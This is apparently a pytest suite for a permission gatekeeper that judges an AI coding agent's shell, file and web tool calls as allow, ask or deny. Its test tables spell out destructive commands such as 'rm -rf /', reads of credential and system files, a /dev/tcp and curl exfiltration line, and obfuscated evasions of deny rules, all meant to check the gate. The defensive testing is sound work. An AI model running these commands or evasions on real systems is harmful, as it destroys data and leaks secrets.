"""Our own permission cases: rules, mode and a call, and what must come of it.

The strings say /home/dev for the home folder and /home/dev/app for the working folder; both are
replaced by temporary folders.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from detent.gate.gate import Gatekeeper
from detent.gate.rules import parse_rule
from detent.gate.terms import Mode, RuleSet, Workspace
from detent.ports import Proposal
from detent.tools.registry import Registry, canonical_name
from detent.types.content import Call
from detent.types.effects import Connects
from detent.types.verdicts import Allow, Ask, Deny

WORDS = {Allow: "allow", Ask: "ask", Deny: "deny"}
FILLED = {"old_string": "a", "new_string": "b", "content": "c", "pattern": "p"}
FILES = ("notes.txt", "docs/a.md", "src/a.py", "private/key.txt", "build/out.o", ".env")


class Case(NamedTuple):
    must: str
    tool: str
    given: dict[str, Any]
    mode: Mode = "default"
    allow: str = ""
    deny: str = ""
    ask: str = ""
    links: str = ""


def sh(must: str, command: str, allow: str = "", **more: Any) -> Case:
    return Case(must, "Bash", {"command": command}, allow=allow, **more)


def on(must: str, tool: str, path: str, **more: Any) -> Case:
    key = "path" if tool in ("Grep", "Glob") else "file_path"
    return Case(must, tool, {key: path}, **more)


RULES_FOR_WORDS = [
    sh("allow", "pytest", "Bash(pytest:*)"),
    sh("allow", "pytest -q tests", "Bash(pytest:*)"),
    sh("allow", "pytest -q tests", "Bash(pytest *)"),
    sh("allow", "pytest   -q", "Bash(pytest -q)"),
    sh("ask", "pytest -q -x", "Bash(pytest -q)"),
    sh("ask", "pytester", "Bash(pytest:*)"),
    sh("ask", "./pytest", "Bash(pytest:*)"),
    sh("ask", "/tmp/x/pytest", "Bash(pytest:*)"),
    sh("ask", "'npm run' build", "Bash(npm run:*)"),
    sh("ask", "npm 'run build'", "Bash(npm run build)"),
    sh("allow", "git push origin main", "Bash(git * main)"),
    sh("ask", "git push origin next", "Bash(git * main)"),
    sh("allow", "git -C x push", "Bash(git * push:*)"),
    sh("allow", "git commit -m 'a; b && $(c) `d` $X *'", "Bash(git commit:*)"),
    sh("allow", 'git commit -m "Füße und Тест"', "Bash(git commit:*)"),
    sh("allow", "git commit -m 'a b'", "Bash(git commit -m 'a b')"),
    sh("allow", "npm test && npm run lint", "Bash(npm:*)"),
    sh("allow", "npm test 2>&1 | tail -5", "Bash(npm:*)"),
    sh("allow", "npm test >/dev/null 2>/dev/null; npm run x", "Bash(npm:*)"),
    sh("allow", "LANG=C LC_ALL=C CI=1 npm test", "Bash(npm:*)"),
    sh("allow", "timeout 30 nice npm test", "Bash(npm:*)"),
    sh("allow", "timeout 30 npm test", "Bash(timeout 30 npm test)"),
    sh("allow", "CI=1 npm test", "Bash(CI=1 npm test)"),
    sh("ask", "CI=2 npm test", "Bash(CI=1 npm test)"),
    sh("ask", "LD_PRELOAD=x npm test", "Bash(npm test)"),
]
NOT_PROVABLE = [
    sh("ask", text, "Bash(npm:*)")
    for text in (
        "npm $X", "npm ${X}", "npm $(x)", 'npm "$(x)"', "npm `x`", "npm <(x)", "npm ~root",
        "npm *.js", "npm ?", "npm [ab]", "npm {a,b}", "npm a\\\nb", "npm < /etc/hosts",
        "npm < .env",
        "npm > out", "npm >> out", "npm > $X", "npm > ~/x", "npm > o*", "npm <<E\n$(x)\nE",
        "npm; fi", "npm 2>/dev/nullx", "npm 1>&2x", "npm 'x", 'npm "x', "npm &&", "; npm",
        "npm\rx", "npm\x0bx", "npm\x00x", "npm\x7f", "npm \u200b-x", "npm\u00a0x", "npm 'a\u202eb'",
        "npm 'a\u2066b'", "npm 'a\ufe0f'", "npm " + "x" * 10_000, "LD_PRELOAD=x npm", "PATH=. npm",
        "'CI=1' npm", "npm() { x; }", "f=1; npm", "npm test; ./x", "npm test\n./x", "npm | sh",
    )
]  # fmt: skip
PROVABLE = [
    sh("allow", text, "Bash(npm:*)")
    for text in (
        'npm "$X"',
        'npm "$(npm list)"',
        "npm ~",
        "npm a\\ b",
        "npm # note",
        "npm < in",
        "npm <<<x",
        "npm <<E\nx\nE",
        "npm &",
        "npm |& npm",
        "(npm)",
        "{ npm; }",
        "! npm",
        "npm a/*.js",
        "if npm; then npm; fi",
        "while npm; do npm; done",
        "npm && ls *.py",
        "/usr/bin/npm test",
    )
] + [
    sh("allow", "npm > docs/o", "Bash(npm:*)", mode="acceptEdits"),
    sh("deny", "npm > docs/o", "Bash(npm:*)", mode="plan"),
    sh("ask", 'npm "$X" test', "Bash(npm * test)"),
    sh("ask", '"$X" test', "Bash(* test)"),
    sh("ask", "xargs npm test", "Bash(npm test)"),
    sh("allow", "xargs npm test", "Bash(npm test:*)"),
    sh("ask", "cd sub && ./x", "Bash(./x)"),
    sh("allow", "./x", "Bash(./x)"),
    sh("ask", "cd sub && git commit", "Bash(git commit:*)"),
    sh("allow", "cd /home/dev/app && git commit", "Bash(git commit:*)"),
    sh("allow", "cd docs && ls && cat a.md"),
    sh("ask", "cd docs && cat ../../x"),
    sh("ask", "ln -s /etc e && npm e/passwd", "Bash(ln:*)"),
]
RUNNERS = [
    sh("ask", command, f"Bash({command.split()[0]}:*)")
    for command in (
        "env rm x", "xargs rm", "xargs -n 1 rm", "watch ls", "setsid rm x", "flock l rm x",
        "exec rm x", "eval 'rm x'", "timeout 5 rm x", "timeout -k 5 5 rm x", "nice -n 5 rm x",
        "time rm x", "time -p bash -c 'rm x'", "command rm x", "sudo rm x", "busybox rm x",
        "bash -c 'rm x'", "bash -lc 'rm x'", "find . -delete", "find . -exec rm '{}' ';'",
        "find . -execdir rm '{}' ';'", "find . -ok rm '{}' ';'", "find . -fprint x",
    )
] + [
    sh("allow", "env A=1 make all", "Bash(env A=1 make all)"),
    sh("ask", "LD_PRELOAD=./x.so npm test", "Bash(* test)"),
    sh("ask", "env x npm test", "Bash(* test)"),
]  # fmt: skip
DENIED = [
    sh("deny", command, allow="Bash", deny="Bash(docker push:*)")
    for command in (
        "docker push x", "docker  push", "ls; docker push x", "ls\ndocker push", "ls | docker push",
        "ls & docker push", "(docker push)", "{ docker push; }", "echo $(docker push)",
        "echo `docker push`", "cat <(docker push)", "d'o'cker push", 'doc"ker" push',
        "d\\ocker push", "docker \\\n push", "/usr/bin/docker push", "A=1 docker push",
        "A+=1 docker push", 'A="b c" docker push', "2>&1 docker push", ">/dev/null docker push",
        ">out docker push", "docker>out push", "if true; then docker push; fi", "! docker push",
        "while docker push; do ls; done", "function f { docker push; }", "time docker push",
        "sudo docker push", "sudo -u root docker push", "timeout 5 docker push",
        "timeout -k 1 5 docker push", "nice -n 5 docker push", "env A=1 docker push",
        "env -i docker push", "env -S 'docker push'", "nohup docker push", "command docker push",
        "exec docker push", "stdbuf -oL docker push", "setsid docker push", "watch docker push",
        "flock /tmp/l docker push", "ionice -c 3 docker push", "xargs docker push",
        "find . -exec docker push ';'", "busybox docker push", "toybox docker push",
        "eval docker push", "eval 'docker push'", "sh -c 'docker push'", 'bash -lc "docker push"',
        "bash <<E\ndocker push\nE", "trap 'docker push' EXIT", "zsh -c 'ls && docker push'",
        "ls" + "; ls" * 200 + "; docker push",
    )
] + [
    sh("deny", "./deploy.sh now", allow="Bash", deny="Bash(./deploy.sh:*)"),
    sh("deny", "sudo ./deploy.sh", allow="Bash", deny="Bash(./deploy.sh:*)"),
    sh("deny", "git -C x push", allow="Bash", deny="Bash(git * push:*)"),
    sh("deny", "git -C x push -f", allow="Bash", deny="Bash(git * push *)"),
    sh("deny", "docker push", allow="Bash(docker push)", deny="Bash(docker:*)"),
    sh("deny", "docker push", mode="bypassPermissions", deny="Bash(docker push:*)"),
    sh("ask", "docker push", allow="Bash(docker:*)", ask="Bash(docker push:*)"),
    sh("ask", "docker push", mode="bypassPermissions", ask="Bash(docker push:*)"),
    sh("deny", "docker push", mode="dontAsk", allow="Bash", ask="Bash(docker push:*)"),
    sh("allow", "git commit -m 'x; docker push'", "Bash(git commit:*)", deny="Bash(docker push:*)"),
    sh("allow", "echo $X", allow="Bash"),
    sh("ask", "$X push", allow="Bash", deny="Bash(docker push:*)"),
    sh("deny", "$'\\x64ocker' push", allow="Bash", deny="Bash(docker push:*)"),
    sh("deny", "doc${E}ker push", allow="Bash", deny="Bash(docker push:*)"),
    sh("ask", "docker${IFS}push", allow="Bash", deny="Bash(docker push:*)"),
    sh("ask", "{docker,push}", allow="Bash", deny="Bash(docker push:*)"),
    sh("ask", "$X push", mode="bypassPermissions", deny="Bash(docker push:*)"),
    *(
        sh("ask", command, allow="Bash", deny="Bash(docker push:*)")
        for command in (
            "`echo docker` push", "$(echo docker) push", "docker $X", "docker p*", "A=$B docker $X",
            'A="$B c" docker $X', ">$F docker $X", "for c in docker; do $c push; done",
            "f() { \"$@\"; }; f docker pu", "sudo $X", "eval $X", "bash $X", ". $X", "~/d $X",
            "d?cker push", "[d]ocker push", "time $X push", "xargs -I{} {} push",
        )
    ),
    *(
        sh("allow", command, allow="Bash", deny="Bash(docker push:*)")
        for command in ("ls *.py", 'cat "$FILE"', "make > log", "for f in *.py; do cat $f; done")
    ),
    sh("ask", "x $Y", allow="Bash", deny="Bash(* push)"),
    sh("deny", "ls", deny="Bash"),
]  # fmt: skip
READ_ONLY = [
    sh("allow", command)
    for command in (
        "ls", "ls -la src", "cat docs/a.md", "head -n 5 notes.txt", "head -5 notes.txt",
        "tail -n +3 notes.txt", "grep -rn 'a b' src", "rg -n --hidden x src", "wc -l notes.txt",
        "diff notes.txt docs/a.md", "find . -name '*.py' -type f -not -path './.git/*'",
        "stat notes.txt", "du -sh src", "sort -u notes.txt", "sort -t, -k2 notes.txt | uniq -c",
        "cut -d: -f1 notes.txt",
        "cut -d' ' -f1 notes.txt", "tr a-z A-Z", "echo hi", "printf '%s\\n' x", "pwd", "true",
        "test -f notes.txt", "sleep 1", "basename /a/b", "realpath src", "which python3",
        "git status", "git status -sb", "git log --oneline -5", "git diff --stat", "git show HEAD",
        "git blame src/a.py", "git rev-parse --show-toplevel", "cat notes.txt | wc -l",
        "diff docs src", "diff -r docs src", "grep -R x src", "/bin/ls src", "/usr/bin/git status",
        "ls -la .env", "test -f .env", "find . -name '.env*'", "sed -n '1,5p;5q' notes.txt",
        "sed -n '1~2p' notes.txt", "git ls-files -o", "git status -uno", "printf '100%%\\n'",
        "tail -n+3 notes.txt", "rg -tpy x src", "sort -t/ -k2 notes.txt", "ls -I x",
    )
] + [
    sh("allow", "git log -3", mode=mode) for mode in ("plan", "dontAsk", "acceptEdits")
]  # fmt: skip
NOT_READ_ONLY = [
    sh("ask", command)
    for command in (
        "cat /etc/hosts", "cat ../x", "cat docs/../../x", "cat .env", "cat private.pem", "ls /",
        "sort -o out in", "sort -uo out in", "sort --o=out in", "sort --output=out in",
        "sort --outp out in", "sort --files0-from=l", "sort --compress-program=x in",
        "sort -T x in",
        "uniq in out", "uniq - out", "uniq -- in -out", "uniq -c in out",
        "test -v 'a[$(x)]'", "'[' -v 'a[$(x)]' ]", "test -R 'a[$(x)]'", "test a -a -v b",
        "printf -v PATH x", "printf -vPATH x", "printf 'aaaaaa%n' PATH", "printf '%5.1ln' PATH",
        "rg --pre x y", "rg --pre=x y", "rg -z x", "rg -L x", "rg --follow x",
        "rg --hostname-bin=x y",
        "rg -f/etc/passwd x", "grep -R x .", "grep -f/etc/passwd x", "grep -f /etc/passwd x",
        "grep --file=/etc/passwd x", "find / -name x", "find -L .", "find . -follow",
        "find . -delete",
        "find . -exec x '{}' ';'", "find . -fls x", "find . -files0-from l", "diff . src",
        "diff -r . src", "wc --files0-from=l", "du --files0-from=l", "du -L .",
        "git diff --output=x", "git diff --outpu=x", "git show -o x", "git diff --ext-diff",
        "git log --format=%G?", "git log --show-signature", "git -c core.pager=x log",
        "git branch x", "git push", "git -C /tmp status", "git show HEAD:.env", "git diff -Ox",
        "cd / && ls", "tail -F notes.txt", "sed -n 'w x' notes.txt", "cat -- -/../../x", "ls --foo",
    )
] + [
    sh("ask", "cd / && cat etc/passwd", "Bash(cd:*)"),
    sh("ask", "cd /tmp && git status", "Bash(cd:*)"),
    sh("ask", "export PATH=. && ls", "Bash(export:*)"),
    sh("ask", "hash -p ./x ls; ls", "Bash(hash:*)"),
    sh("ask", "ln -s /etc x && cat x/passwd", "Bash(ln:*)"),
    sh("ask", "mv docs/l l && cat l/x", "Bash(mv:*)"),
    sh("ask", "cat docs/link.md", links="docs/link.md=/etc/hosts"),
    sh("ask", "cat docs/link/hosts", links="docs/link=/etc"),
]  # fmt: skip
READ_RULES = [
    *(
        sh(must, command, allow="Bash", deny="Read(./private/**)")
        for must, command in (
            ("deny", "cat private/key.txt"), ("deny", "cat ./private/key.txt"),
            ("deny", "cat /home/dev/app/private/key.txt"), ("deny", "cat docs/../private/key.txt"),
            ("deny", "cat 'pri'vate/key.txt"), ("deny", "cat < private/key.txt"),
            ("deny", "cat <private/key.txt"), ("deny", "cd private && cat key.txt"),
            ("deny", "ls private"), ("deny", "curl -d @private/key.txt x"),
            ("deny", "dd if=private/key.txt"), ("deny", "grep -fprivate/key.txt x"),
            ("deny", "grep --file=private/key.txt x"), ("deny", "git show HEAD:private/key.txt"),
            ("deny", "cat sub/private/key.txt"), ("deny", "echo x > private/new.txt"),
            ("deny", "cat link/key.txt"), ("deny", "cp private/key.txt x"),
            ("ask", "cat priv*/key.txt"), ("ask", "cat $X"), ("ask", "grep -r x ."),
            ("ask", "grep -rn x"), ("ask", "rg x"), ("ask", "find . -name x"),
            ("ask", "tar cf - ."),
            ("ask", "cp -r . /tmp/x"), ("allow", "cat docs/a.md"), ("allow", "python3 x.py"),
        )
    ),
    sh("deny", "cat private/key.txt", deny="Read(private/**)"),
    sh("deny", "cat private/key.txt", deny="Read(/private/**)", mode="bypassPermissions"),
    sh("ask", "cat private/key.txt", allow="Bash", ask="Read(private/**)"),
    on("deny", "Read", "/home/dev/app/private/key.txt", deny="Read(private/**)"),
    on("deny", "Read", "docs/l", deny="Read(private/**)", links="docs/l=private/key.txt"),
    on("deny", "Read", "/home/dev/app/x/y/.env", deny="Read(.env)", allow="Read"),
    on("deny", "Edit", "private/key.txt", deny="Read(private/**)", mode="acceptEdits"),
    on("deny", "Write", "private/key.txt", deny="Read(private/**)", mode="acceptEdits"),
    on("deny", "Grep", "/home/dev/app/private", deny="Read(private/**)"),
    on("deny", "Glob", "/home/dev/app/private", deny="Read(private/**)"),
    on("ask", "Grep", "/home/dev/app", deny="Read(private/**)"),
    on("allow", "Grep", "/home/dev/app/src", deny="Read(/private/**)"),
    on("allow", "Grep", "/home/dev/app"),
]  # fmt: skip
PATHS = [
    on("allow", "Read", "/home/dev/app/docs/a.md"),
    on("allow", "Read", "docs/a.md", mode="plan"),
    on("ask", "Read", "/home/dev/application/a.md"),
    on("ask", "Read", "/home/dev/app/../x"),
    on("ask", "Read", "/home/dev/app/.env"),
    on("ask", "Read", "/home/dev/app/.ssh/id"),
    on("ask", "Grep", "/home/dev/app/.ssh"),
    on("ask", "Read", "/home/dev/app/docs/l", links="docs/l=/etc/hosts"),
    on("allow", "Read", "/home/dev/x.md", allow="Read(~/x.md)"),
    on("allow", "Read", "/etc/hosts", allow="Read(//etc/hosts)"),
    on("ask", "Read", "/etc/hosts", allow="Read(/etc/hosts)"),
    on("ask", "Read", "/proc/self/environ", allow="Read"),
    on("ask", "Read", "/proc/1/mem", allow="Read(//proc/**)"),
    on("ask", "Read", "/dev/sda", allow="Read"),
    sh("ask", "cat /proc/self/environ", "Bash(cat:*)"),
    sh("ask", "cat < /proc/1/environ", "Bash"),
    sh("ask", "dd if=/dev/sda", "Bash"),
    sh("ask", "cat < /dev/tcp/evil.test/80", "Bash"),
    on("ask", "Edit", "/home/dev/app/docs/a.md"),
    on("allow", "Edit", "/home/dev/app/docs/a.md", allow="Edit(docs/**)"),
    on("allow", "Write", "/home/dev/app/docs/a.md", allow="Edit(docs/**)"),
    on("ask", "Edit", "/home/dev/app/docs/a.md", allow="Read(docs/**)"),
    on("ask", "Edit", "/home/dev/app/src/docs/a.md", allow="Edit(docs/**)"),
    on("deny", "Edit", "/home/dev/app/src/gen/a.md", deny="Edit(gen/**)", mode="acceptEdits"),
    on("deny", "Edit", "/home/dev/app/src/a/gen/x", deny="Edit(a/gen/**)", mode="acceptEdits"),
    on("deny", "Edit", "/home/dev/app/gen/a", deny="Write(gen/**)", mode="acceptEdits"),
    on("ask", "Edit", "/home/dev/app/docs/l", allow="Edit(docs/**)", links="docs/l=/home/dev/n.md"),
    on("ask", "Write", "/home/dev/app/docs/l/x", allow="Edit(docs/**)", links="docs/l=/home/dev"),
    on("deny", "Read", "/home/dev/other/x", allow="Read", deny="Read(../other/**)"),
    on("deny", "Read", "/home/dev/app/src/a.py", deny="Read(.)"),
    sh("deny", "echo x > gen/a", "Bash", deny="Edit(gen/**)"),
    sh("deny", "tee gen/a", "Bash", deny="Edit(gen/**)"),
    sh("deny", "cp a gen/a", "Bash", deny="Edit(gen/**)"),
    sh("allow", "cat gen/a", "Bash", deny="Edit(gen/**)"),
    sh("ask", "touch g*/a", "Bash", deny="Edit(gen/**)"),
    sh("allow", "touch src/*.py", "Bash", deny="Edit(/gen/**)"),
    sh("ask", 'tee "$X"', "Bash", deny="Edit(gen/**)"),
    sh("ask", "cd /etc && ls", "Bash(cd:*)"),
    sh("allow", "cd docs && ls", "Bash(cd:*)"),
]  # fmt: skip
MODES = [
    on("allow", "Edit", "/home/dev/app/docs/a.md", mode="acceptEdits"),
    on("ask", "Edit", "/home/dev/x.md", mode="acceptEdits"),
    on("ask", "Write", "/home/dev/app/docs/l/x", mode="acceptEdits", links="docs/l=/home/dev"),
    on("deny", "Edit", "/home/dev/app/docs/a.md", mode="plan"),
    on("deny", "Write", "/home/dev/app/docs/a.md", mode="plan", allow="Edit"),
    sh("deny", "echo x > notes.txt", "Bash", mode="plan"),
    sh("ask", "make", mode="plan"),
    on("deny", "Edit", "/home/dev/app/docs/a.md", mode="dontAsk"),
    on("allow", "Edit", "/home/dev/app/docs/a.md", mode="dontAsk", allow="Edit(docs/**)"),
    sh("deny", "make", mode="dontAsk"),
    sh("deny", "rm -rf /", mode="dontAsk", allow="Bash"),
    sh("allow", "make", mode="bypassPermissions"),
    on("allow", "Write", "/home/dev/app/.git/config", mode="bypassPermissions"),
    sh("ask", "echo x > /home/dev/x", "Bash"),
    *(
        sh("allow", command, mode="acceptEdits")
        for command in (
            "mkdir -p a/b", "touch a b", "mv notes.txt n.txt", "cp notes.txt n.txt",
            "cp -r docs d", "mkdir a && touch a/b && ls a", "mv notes.txt a && echo done",
        )
    ),
    *(
        sh("ask", command, mode="acceptEdits")
        for command in (
            "mkdir /tmp/x", "touch ../x", "cp notes.txt /tmp/x", "mv /etc/hosts x", "touch .envrc",
            "cp x .git/hooks/pre-commit", "cp -t/tmp notes.txt", "cp --target-directory=/tmp x",
            "cp -s notes.txt l", "cp -l notes.txt l", "mv -t /tmp x", "touch -r/etc/hosts x",
            "touch --reference=/etc/hosts x", "cp .env x", "cp -r evil/. .", "mv .git x",
            "mv docs/l l && touch l/x", "cp -r docs d && touch d/l/x", "rm notes.txt",
            "mkdir x && make", "cp notes.txt n$X", "ln -s /etc x", "chmod +x notes.txt",
        )
    ),
    sh("ask", "cp notes.txt link/config", mode="acceptEdits", links="link=.git"),
]  # fmt: skip
PROTECTED = [
    *(
        on("ask", "Edit", f"/home/dev/app/{name}", mode="acceptEdits", allow="Edit(**)")
        for name in (
            ".git/config", ".claude/settings.json", ".detent/settings.json", ".vscode/tasks.json",
            ".idea/x", ".husky/pre-commit", ".devcontainer/x", ".envrc", ".mcp.json", ".bashrc",
            ".zshrc", ".profile", ".npmrc", ".GIT/config", "sub/.git/hooks/x", ".gitmodules",
        )
    ),
    sh("ask", "cp x .git/hooks/pre-commit", "Bash(cp:*)"),
    sh("ask", "echo x > .git/hooks/pre-commit", "Bash"),
    sh("ask", "cd .git && echo x > config", "Bash"),
    sh("ask", "cd .git && echo $X > config", "Bash"),
    sh("ask", "tee link/config", "Bash(tee:*)", links="link=.git"),
    sh("ask", "rm -rf .git", "Bash(rm:*)"),
    sh("allow", "cat .git/config", "Bash(cat:*)"),
    sh("allow", "make", "Bash(make:*)"),
]  # fmt: skip
CRITICAL = [
    sh("ask", command, "Bash(rm:*)", mode="bypassPermissions")
    for command in (
        "rm -rf /", "rm -rf /*", "rm -rf /etc", "rm -rf /etc/", "rm -rf /home/dev", "rm -rf ~",
        "rm -rf ~/", "rm -rf ~/*", "rm -rf $HOME", 'rm -rf "$HOME"/', "rm -rf ${HOME}", "rm -rf .",
        "rm -rf ./*", "rm -rf *", "rm -rf ..", "rm -rf ../..", "rm -rf ../app", "rm -rf $X/",
        "rm -rf $X/*", 'rm -rf "${X}/"', "rm -rf ${X:-}/", "rm -rf $X/$Y", "rm -rf $PWD",
        "rm -rf $(pwd)", "rm -rf `pwd`", "rm -rf /home/dev/app", "sudo rm -rf /etc",
        "timeout 5 rm -rf /etc", "bash -c 'rm -rf /etc'", "find . -exec rm -rf / ';'",
        "ls; rm -rf /etc", "cd / && rm -rf etc", "cd .. && rm -rf app", "rmdir /etc",
        "/bin/rm -rf /etc", "rm -rf -- /etc", "rm -rf build /etc", "\\rm -rf /etc",
    )
] + [
    sh("allow", "rm -rf build", "Bash(rm:*)", mode="bypassPermissions"),
    sh("allow", "rm -rf $X/build", mode="bypassPermissions"),
]  # fmt: skip
OTHER_TOOLS = [
    Case("allow", "mcp__files__search", {}, allow="mcp__files"),
    Case("allow", "mcp__files__search", {}, allow="mcp__files__*"),
    Case("allow", "mcp__files__search", {}, allow="mcp__files__se*"),
    Case("ask", "mcp__filesystem__search", {}, allow="mcp__files"),
    Case("ask", "mcp__files__search", {}, allow="mcp__*"),
    Case("ask", "mcp__files__search", {}, allow="mcp__f*__search"),
    Case("deny", "mcp__files__search", {}, allow="mcp__files", deny="mcp__*"),
    Case("deny", "mcp__files__search", {}, allow="mcp__files", deny="mcp__files__se*"),
    Case("deny", "mcp__files__search", {}, allow="mcp__files", deny="mcp__files"),
    Case("deny", "Elsewhere", {}, allow="Elsewhere", deny="Elsewhere(domain:e.test)"),
    Case("allow", "WebSearch", {"query": "news"}, allow="WebSearch"),
    Case("deny", "WebSearch", {"query": "news"}, allow="WebSearch", deny="WebSearch"),
    Case("ask", "WebSearch", {"query": "news"}, mode="plan"),
]  # fmt: skip


def web(must: str, url: str, allow: str = "", deny: str = "", **more: Any) -> Case:
    """Rules by the domains they name."""
    rules = {
        "allow": allow and f"WebFetch(domain:{allow})",
        "deny": deny and f"WebFetch(domain:{deny})",
    }
    return Case(must, "WebFetch", {"url": url}, **{**rules, **more})


FETCHED = [
    web("allow", "https://docs.test/x", "docs.test"),
    web("allow", "HTTPS://DOCS.test./x", "docs.test"),
    web("allow", "https://docs.test:8443/x", "Docs.Test."),
    web("allow", "https://a.docs.test/", "*.docs.test"),
    web("allow", "https://a.b.docs.test/", "*.docs.test"),
    web("allow", "https://api.docs.test/", "a*.docs.test"),
    web("allow", "https://x.test/", "*"),
    web("allow", "https://bücher.test/", "bücher.test"),
    web("allow", "https://xn--bcher-kva.test/", "BÜCHER.test"),
    web("allow", "http://127.1/", "127.0.0.1"),
    web("ask", "https://x.test/"),
    web("ask", "https://x.test/", mode="plan"),
    web("ask", "https://x.test/", mode="acceptEdits"),
    web("deny", "https://x.test/", mode="dontAsk"),
    web("allow", "https://x.test/", mode="bypassPermissions"),
    web("ask", "https://docs.test/", "*.docs.test"),
    web("ask", "https://docs.test.evil.test/", "docs.test"),
    web("ask", "https://evildocs.test/", "*.docs.test"),
    web("ask", "https://evildocs.test/", "docs.test"),
    web("ask", "https://a.b.docs.test/", "a*.docs.test"),
    web("ask", "https://docsxtest/", "docs.test"),
    web("ask", "https://evil.test/docs.test", "docs.test"),
    web("ask", "https://evil.test/?docs.test", "docs.test"),
    web("ask", "https://evil.test#docs.test", "docs.test"),
    web("deny", "https://e.test/", deny="e.test", allow="*"),
    web("deny", "https://E.TEST./", deny="e.test", allow="*"),
    web("deny", "https://ｅ.test/", deny="e.test", allow="*"),
    web("deny", "https://e。test/", deny="e.test", allow="*"),
    web("deny", "http://2130706433/", deny="127.0.0.1", allow="*"),
    web("deny", "http://0x7f.1/", deny="127.0.0.1", allow="*"),
    web("deny", "http://[::FFFF:7f00:1]/", deny="127.0.0.1", allow="*"),
    web("deny", "http://[0:0::1]/", deny="::1", allow="*"),
    web("deny", "https://x.test/", mode="bypassPermissions", deny="x.test"),
]  # fmt: skip
ALL = [
    *RULES_FOR_WORDS, *NOT_PROVABLE, *PROVABLE, *RUNNERS, *DENIED, *READ_ONLY, *NOT_READ_ONLY,
    *READ_RULES, *PATHS, *MODES, *PROTECTED, *CRITICAL, *OTHER_TOOLS,
    *FETCHED,
]  # fmt: skip


def judged(case: Case, home: Path) -> str:
    cwd = home / "app"
    for name in FILES:
        (cwd / name).parent.mkdir(parents=True, exist_ok=True)
        (cwd / name).write_text("x\n")
    (cwd / ".git").mkdir()
    (cwd / "link").symlink_to("private")
    if case.links:
        link, _, target = case.links.replace("/home/dev", str(home)).partition("=")
        (cwd / link).unlink(missing_ok=True)
        (cwd / link).symlink_to(target if target.startswith("/") else cwd / target)
    gate = Gatekeeper(
        Workspace(str(cwd), (str(cwd),), str(home)),
        mode=case.mode,
        rules=RuleSet(allow=_rules(case.allow), ask=_rules(case.ask), deny=_rules(case.deny)),
    )
    given = json.loads(json.dumps(case.given).replace("/home/dev", str(home)))
    return WORDS[type(gate.judge(_proposal(case.tool, given, str(cwd))))]


def _rules(text: str) -> Any:
    return (parse_rule(text, canonical_name),) if text else ()


def _proposal(name: str, given: dict[str, Any], cwd: str) -> Proposal:
    call = Call("c", name, json.dumps(given))
    tool = Registry().find(name)
    if tool is None:
        return Proposal(call, name, given, (Connects(given.get("host", "*")),))
    full = json.dumps({**FILLED, **given} if name != "Bash" else given)
    return Proposal(call, name, given, tool.effects(tool.parse(full), cwd))


@pytest.mark.parametrize("case", ALL, ids=lambda c: f"{c.must}-{str(c.given)[:60]!a}")
def test_example(case: Case, tmp_path: Path) -> None:
    home = Path(os.path.realpath(tmp_path))
    assert judged(case, home) == case.must
